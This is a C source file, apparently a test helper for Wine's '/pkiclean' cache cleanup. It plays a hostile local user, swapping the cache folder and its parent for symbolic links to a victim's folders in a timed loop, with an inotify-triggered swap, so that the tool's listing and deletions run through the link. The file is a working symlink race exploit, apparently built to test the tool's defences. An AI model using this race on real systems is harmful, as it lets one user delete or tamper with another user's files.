/* The hostile local user of the /pkiclean race, on the host side of Wine: swaps the cache folder
 * (ctl) and its parent (PKI) for symbolic links to a victim's folders and back, in a loop, and
 * once more right when the cache folder is first opened (inotify), holding that swap for a while
 * so that the listing and the deletions happen through the link. Ends on SIGTERM with the real
 * folders back in place.
 *
 *   racer PKI-FOLDER VICTIM-PKI-FOLDER READY-FILE
 * VICTIM-PKI-FOLDER holds ctl with the victim's files. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stopping;

static void on_term(int sig) {
    (void)sig;
    stopping = 1;
}

static void pause_us(long us) {
    struct timespec t = {0, us * 1000};
    nanosleep(&t, NULL);
}

/* Puts a link to `target` where `folder` is; the real folder waits beside it as `away`. */
static int swap(const char* folder, const char* away, const char* target) {
    if (rename(folder, away) != 0)
        return 0;
    if (symlink(target, folder) != 0) {
        rename(away, folder);
        return 0;
    }
    return 1;
}

static void unswap(const char* folder, const char* away) {
    unlink(folder);
    rename(away, folder);
}

int main(int argc, char** argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: racer PKI-FOLDER VICTIM-PKI-FOLDER READY-FILE\n");
        return 2;
    }
    char pki[4096], pki_away[4096], ctl[4096], ctl_away[4096], victim_ctl[4096];
    snprintf(pki, sizeof pki, "%s", argv[1]);
    snprintf(pki_away, sizeof pki_away, "%s.away", argv[1]);
    snprintf(ctl, sizeof ctl, "%s/ctl", argv[1]);
    snprintf(ctl_away, sizeof ctl_away, "%s/ctl.away", argv[1]);
    snprintf(victim_ctl, sizeof victim_ctl, "%s/ctl", argv[2]);
    signal(SIGTERM, on_term);

    int watch = inotify_init1(IN_NONBLOCK);
    if (watch < 0 || inotify_add_watch(watch, ctl, IN_OPEN | IN_ONLYDIR) < 0) {
        perror("inotify");
        return 1;
    }
    int ready = open(argv[3], O_CREAT | O_WRONLY, 0644);
    if (ready >= 0)
        close(ready);

    unsigned seed = (unsigned)getpid();
    int opened = 0;
    while (!stopping) {
        char events[4096];
        if (!opened && read(watch, events, sizeof events) > 0) {
            /* The cache folder was just opened: the check is behind the tool, the listing and
             * the deletions are before it. */
            opened = 1;
            if (swap(ctl, ctl_away, victim_ctl)) {
                pause_us(300000);
                unswap(ctl, ctl_away);
            }
            continue;
        }
        if (swap(ctl, ctl_away, victim_ctl)) {
            pause_us(rand_r(&seed) % 2000);
            unswap(ctl, ctl_away);
        }
        if (swap(pki, pki_away, argv[2])) {
            pause_us(rand_r(&seed) % 2000);
            unswap(pki, pki_away);
        }
        pause_us(rand_r(&seed) % 500);
    }
    return 0;
}
